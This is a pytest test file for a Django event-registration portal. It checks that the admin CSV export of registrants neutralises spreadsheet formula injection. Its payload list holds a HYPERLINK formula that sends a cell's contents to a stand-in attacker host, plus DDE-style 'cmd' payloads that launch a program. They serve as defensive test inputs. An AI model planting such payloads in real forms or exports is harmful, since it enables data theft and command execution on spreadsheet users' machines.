"""The registrants' CSV opens in a spreadsheet as data: what visitors typed never runs."""

import csv
import io

import pytest

from events.models import Registration
from portal.spreadsheet import safe_cell

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2;"Cliquez")',
    "+33 4 71 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response):
    text = response.getvalue().decode("utf-8-sig")  # streamed
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_cell_a_visitor_types_is_quoted_in_the_csv(
    client, admin_client, event, slot, payload
):
    # Typed in the public sign-up form: name and organisation are free text.
    response = client.post(
        event.url,
        {
            "slot": str(slot.pk),
            "name": payload,
            "email": "camille.fabre@example.org",
            "organisation": payload,
            "phone": "",
            "consent": "on",
        },
    )
    assert response.status_code in (200, 303)
    registration = Registration.objects.get()

    rows = _rows(admin_client.get(f"/admin/inscriptions/inscrits/?slot={slot.pk}&export=csv"))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    for column, value in (("Nom", registration.name), ("Structure", registration.organisation)):
        # Stored as typed (a leading tab or CR is trimmed, the formula stays): the cell
        # reads the same text behind a quote.
        assert value.startswith(("=", "+", "-", "@"))
        assert cells[column] == "'" + value
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_phone_and_email_with_formula_starts_are_quoted_too(admin_client, slot):
    from events.factories import RegistrationFactory

    RegistrationFactory(
        slot=slot, name="Camille", email="@camille@example.org", phone="+33 4 71 00 00 00"
    )
    row = _rows(admin_client.get(f"/admin/inscriptions/inscrits/?slot={slot.pk}&export=csv"))[1]
    assert "'+33 4 71 00 00 00" in row and "'@camille@example.org" in row
    assert row[1] == ""  # the site's own empty position stays empty


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Marie = Dupont", "Marie = Dupont"),
        ("", ""),
        (None, ""),
        (3, 3),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell
